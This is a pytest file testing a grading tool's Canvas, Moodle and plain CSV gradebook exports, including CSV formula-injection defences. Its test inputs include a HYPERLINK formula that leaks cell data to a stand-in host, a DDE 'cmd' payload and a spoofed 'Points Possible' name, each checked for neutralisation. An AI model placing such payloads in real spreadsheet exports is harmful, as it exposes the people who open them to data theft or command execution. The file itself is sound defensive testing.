"""The LMS exports: Canvas's and Moodle's documented import layouts, and the plain gradebook.

The Canvas checks restate what Canvas's importer (instructure/canvas-lms,
app/models/gradebook_importer.rb) requires of a file, so a layout Canvas would refuse
fails here, not in front of a class.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sys
from pathlib import Path

import pytest

from grader.report import Status, SubmissionResult, TestResult
from grader.report.atomic import atomic_write_json
from grader.report.exports import (
    ExportError,
    load_absent,
    load_gradebook,
    render_canvas,
    render_moodle,
    render_plain,
    write_export,
)
from grader.report.model import Identity

UDP, TCP = "01_udp/udp_client", "02_tcp/tcp_client"
WEIGHTS = {UDP: 60.0, TCP: 40.0}
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _result(student: str, identity: Identity, udp_passed: int, tcp_passed: int) -> SubmissionResult:
    """Two UDP tests of 1 raw point, one TCP test of 5: raw points differ from the course scale."""
    tests = [TestResult(f"u.py::test_{i}", UDP, f"test_{i}", "",
                        Status.PASS if i < udp_passed else Status.FAIL) for i in range(2)]
    tests.append(TestResult("t.py::test_0", TCP, "test_0", "", Status.PASS if tcp_passed else Status.FAIL,
                            points=5))
    return SubmissionResult(student, tests=tests, weights=dict(WEIGHTS), identity=identity)


ZHANG = Identity("张三.zip", "张三", "2024001", "zhangsan@uni.example", "Sec A")
EVE = Identity("eve.zip", HOSTILE, "2024002", "eve", "Sec B")
PP = Identity("pp.zip", "Points Possible", "2024004", "pp@uni.example", "Sec B")
LI = Identity("李四.zip", "李四", "2024003", "lisi@uni.example", "Sec A")


def make_out(tmp_path: Path, *, absent: bool = True) -> Path:
    """A graded OUT as ``netlings grade`` leaves it: result.json per student, class.json."""
    out = tmp_path / "out"
    results = [_result("张三", ZHANG, 2, 1),  # 100
               _result("eve", EVE, 1, 0),  # 30
               _result("anon", Identity(submission="anon.zip"), 0, 1),  # 40, no roster entry
               _result("pp", PP, 0, 0)]  # 0
    for result in results:
        atomic_write_json(out / "students" / result.student / "result.json", result.to_dict())
    if absent:
        atomic_write_json(out / "class.json", {"absent": {"李四": LI.to_dict()}, "skipped": [],
                                               "unmatched": ["anon"], "changes": {}})
    return out


def parse(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff"), "UTF-8 with a BOM: Excel shows 张三, both importers accept it"
    assert "\r\n" in text and "\n" not in text.replace("\r\n", ""), "RFC 4180 line ends"
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def canvas_accepts(rows: list[list[str]]) -> None:
    """The header and points checks of Canvas's gradebook_importer.rb, restated."""
    header = rows[0]
    assert len(header) > 3 and "Student" in header[0] and "ID" in header[1], "row_has_student_headers?"
    assert header[2] == "SIS User ID" and header[3] == "SIS Login ID", "SIS User ID must be followed by login"
    student_columns = 3 + 2  # update_column_count: name, ID, Section + SIS User ID and SIS Login ID
    assert "Section" in header[student_columns - 1], "last student info column must be Section"
    assignments = header[student_columns:]
    assert len(assignments) == 1
    points_rows = [i for i, row in enumerate(rows) if "Points Possible" in row[0]]
    assert points_rows == [1], "exactly one row is read as Points Possible, the second"
    assert all(len(row) == len(header) for row in rows), "every row as wide as the header"


def test_canvas_follows_the_documented_gradebook_layout(tmp_path: Path) -> None:
    rows = parse(render_canvas(load_gradebook(make_out(tmp_path)), "Lab 1"))
    canvas_accepts(rows)
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Lab 1"]
    assert rows[1] == ["    Points Possible", "", "", "", "", "100"], "as Canvas's own export writes it"
    body = {row[2] or row[0]: row for row in rows[2:]}
    assert len(rows) == 2 + 5, "one row per graded student plus the absent roster entry"
    assert body["2024001"] == ["张三", "", "2024001", "zhangsan@uni.example", "Sec A", "100"]
    assert body["2024002"][5] == "30", "grades on the course's scale (raw points would be 1 of 7)"
    assert body["anon.zip"] == ["anon.zip", "", "", "", "", "40"], "no roster entry: the submission's name"
    assert body["2024003"] == ["李四", "", "2024003", "lisi@uni.example", "Sec A", ""], \
        "absent: an empty grade, which Canvas reads as no change"
    assert body["2024004"][0] == "Points\u00a0Possible", "a name cannot pose as the Points Possible row"


def test_every_cell_is_neutralised(tmp_path: Path) -> None:
    book = load_gradebook(make_out(tmp_path))
    texts = [render_canvas(book, "=cmd|' /C calc'!A0"), render_moodle(book, "@SUM(1)").text,
             render_plain(book)]
    for text in texts:
        rows = parse(text)
        cells = [cell for row in rows for cell in row]
        assert HOSTILE not in cells and "'" + HOSTILE in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and c != "-")], cells
    assert parse(texts[0])[0][5] == "'=cmd|' /C calc'!A0", "the assignment name too"


def test_canvas_name_check_survives_control_characters(tmp_path: Path) -> None:
    out = tmp_path / "out"
    sneaky = Identity("x.zip", "Points\x00 Possible\x1b[2J", "9", "", "")
    atomic_write_json(out / "students" / "x" / "result.json", _result("x", sneaky, 2, 1).to_dict())
    rows = parse(render_canvas(load_gradebook(out)))
    canvas_accepts(rows)
    assert rows[2][0] == "Points\u00a0Possible"


def test_moodle_writes_the_export_layout_and_only_rows_it_can_place(tmp_path: Path) -> None:
    book = load_gradebook(make_out(tmp_path))
    export = render_moodle(book, "Lab 1")
    rows = parse(export.text)
    assert rows[0] == ["First name", "Last name", "ID number", "Email address", "Lab 1 (Real)"]
    assert export.key == "idnumber" and (export.column, export.map_to) == ("ID number", "useridnumber")
    assert sorted(rows[1:]) == sorted([
        ["张三", "", "2024001", "zhangsan@uni.example", "100"],
        ["'" + HOSTILE, "", "2024002", "", "30"],  # "eve" is a login, not an email address
        ["Points Possible", "", "2024004", "pp@uni.example", "0"],
    ])
    assert export.written == 3 and export.no_key == ["anon"], "no ID number: Moodle would misplace the grade"
    assert export.absent == ["李四"], "an empty grade would erase a grade in Moodle: left out, reported"
    assert all(row[2] for row in rows[1:]), "no row without the column Moodle maps from"

    by_email = render_moodle(book, "Lab 1", "email")
    assert [r[3] for r in parse(by_email.text)[1:]] == ["pp@uni.example", "zhangsan@uni.example"]
    assert sorted(by_email.no_key) == ["anon", "eve"] and by_email.map_to == "useremail"


def test_moodle_key_falls_back_to_email_without_ids(tmp_path: Path) -> None:
    out = tmp_path / "out"
    ident = Identity("a.zip", "A", "", "a@uni.example", "")
    atomic_write_json(out / "students" / "a" / "result.json", _result("a", ident, 2, 0).to_dict())
    export = render_moodle(load_gradebook(out))
    assert export.key == "email" and parse(export.text)[1] == ["A", "", "", "a@uni.example", "60"]


def test_plain_csv_has_identity_grades_and_exercises(tmp_path: Path) -> None:
    rows = parse(render_plain(load_gradebook(make_out(tmp_path))))
    assert rows[0] == ["student", "submission", "name", "sis_id", "login_id", "section", "grade", "grade_max",
                       UDP, TCP]
    body = {row[0]: row for row in rows[1:]}
    assert len(body) == 5 and list(body) == sorted(body, key=str.casefold)
    assert body["张三"] == ["张三", "张三.zip", "张三", "2024001", "zhangsan@uni.example", "Sec A",
                          "100", "100", "60", "40"]
    assert body["eve"][6:] == ["30", "100", "30", "0"], "exercise grades on the course scale"
    assert body["李四"] == ["李四", "李四.zip", "李四", "2024003", "lisi@uni.example", "Sec A",
                          "", "", "", ""]


def test_an_older_out_without_class_json_has_no_absent_rows(tmp_path: Path) -> None:
    out = make_out(tmp_path, absent=False)
    assert len(parse(render_plain(load_gradebook(out)))) == 1 + 4
    for junk in ("not json", "[1, 2]", '{"absent": 3}', '{"absent": {"x": 5, "": {}}}', "[" * 100_000):
        (out / "class.json").write_text(junk, encoding="utf-8")
        absent = load_absent(out / "class.json")
        assert absent in ({}, {"x": Identity()}), junk[:20]
    (out / "class.json").write_text(json.dumps({"absent": [{"student": "z", "name": "Z"}]}), encoding="utf-8")
    assert load_absent(out / "class.json") == {"z": Identity(name="Z")}


def test_errors_name_the_folder(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="is not a graded folder"):
        load_gradebook(tmp_path / "nowhere")
    (tmp_path / "out" / "students" / "bob").mkdir(parents=True)
    (tmp_path / "out" / "students" / "bob" / "result.json").write_text("{not ours", encoding="utf-8")
    with pytest.raises(ExportError, match="no result.json that could be read"):
        load_gradebook(tmp_path / "out")


def test_unreadable_results_are_left_out(tmp_path: Path) -> None:
    out = make_out(tmp_path)
    (out / "students" / "broken").mkdir()
    (out / "students" / "broken" / "result.json").write_text('{"format": 999}', encoding="utf-8")
    (out / "students" / "stray.txt").write_text("x", encoding="utf-8")
    assert sorted(r.student for r in load_gradebook(out).results) == ["anon", "eve", "pp", "张三"]


def test_write_export_is_atomic_and_private(tmp_path: Path) -> None:
    path = write_export(tmp_path / "deep" / "export.csv", "\ufeffa,b\r\n")
    assert path.read_bytes() == b"\xef\xbb\xbfa,b\r\n"
    if sys.platform != "win32":
        assert os.stat(path).st_mode & 0o777 == 0o600, "grades and SIS ids: the owner's only"
    assert [p.name for p in path.parent.iterdir()] == ["export.csv"], "no temporary file left behind"
